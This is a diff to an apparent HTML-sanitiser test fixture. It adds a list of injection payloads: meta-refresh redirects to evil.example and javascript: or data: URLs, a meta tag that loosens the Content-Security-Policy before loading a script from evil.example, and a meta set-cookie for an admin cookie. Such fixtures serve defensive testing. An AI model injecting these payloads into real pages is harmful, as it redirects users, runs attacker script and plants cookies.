@@ -146,3 +146,13 @@ export const clobberingPayloads: readonly string[] = [
   '<img id="location" name="location" src="/x.jpg">',
   '<iframe name="fetch" srcdoc="x"></iframe>',
 ];
+
+/** What only a sanitiser can stop: a policy says where scripts and frames come from, not where a page may send its reader. */
+export const divertingPayloads: readonly string[] = [
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
+  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
+  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>xss()</script>">',
+  '<svg><desc><meta http-equiv=refresh content="0;url=https://evil.example/svg"></desc></svg>',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script src="https://evil.example/x.js"></script>',
+  '<meta http-equiv="set-cookie" content="salaria_admin=x">',
+];
